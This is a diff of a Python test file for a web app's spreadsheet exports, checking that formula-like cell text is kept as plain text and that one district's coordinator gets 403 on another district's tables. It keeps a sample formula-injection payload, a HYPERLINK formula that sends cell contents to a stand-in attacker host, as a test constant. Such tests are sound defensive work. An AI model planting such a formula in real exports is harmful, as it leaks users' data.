@@ -4,15 +4,18 @@ district coordinator gets 403 on another district's tables."""
 from __future__ import annotations
 
 import io
+from pathlib import Path
 
 from openpyxl import load_workbook
 from sqlalchemy.engine import Engine
 from sqlmodel import Session, col, select
 
+from bot.planimport.tabular import read_template
 from bot.web.tables import rows_xlsx
 from kernel.clock import FixedClock
 from storage.models import Assignment, ProgressUpdate
 from tests.web.conftest import Client, Tree, sign_in
+from tests.web.test_console_views import upload_form
 
 FORMULA = '=HYPERLINK("http://evil.example/"&A1,"xem")'
 
@@ -99,3 +102,27 @@ async def test_another_districts_tables_are_403(
         assert other is not None
     assert (await client.get(f"/assignments/{other.id}?format=xlsx")).status == 403
     assert (await client.get(f"/assignments/{assignment_id}?format=xlsx")).status == 200
+
+
+async def test_the_plans_list_and_the_review_table_export(
+    client: Client, engine: Engine, clock: FixedClock, tree: Tree, tmp_path: Path
+) -> None:
+    token = await sign_in(client, engine, clock, tree.admin)
+    plans = await client.get("/plans?format=xlsx")
+    rows = _sheet_rows(await plans.read())
+    assert rows[0][0] == "Tiêu đề" and len(rows) == 2  # the conftest's plan
+    csv = "STT,Nhiệm vụ,Cơ quan chủ trì\n1,=1+1 công khai thủ tục,Sở Nội vụ\n".encode()
+    review = await client.post("/plans/upload", data=upload_form(token, "kh.csv", csv))
+    path = str(review.url.path)
+    exported = await client.get(path + "?format=xlsx")
+    assert exported.status == 200
+    saved = tmp_path / "review.xlsx"
+    saved.write_bytes(await exported.read())
+    reread = read_template(saved)  # what `import-plan --review-out` writes, read back
+    assert reread.tasks[0].text == "=1+1 công khai thủ tục" and reread.tasks[0].lead == [
+        "Sở Nội vụ"
+    ]
+    client.session.cookie_jar.clear()
+    await sign_in(client, engine, clock, tree.district_coordinator)
+    assert (await client.get("/plans?format=xlsx")).status == 403
+    assert (await client.get(path + "?format=xlsx")).status == 403
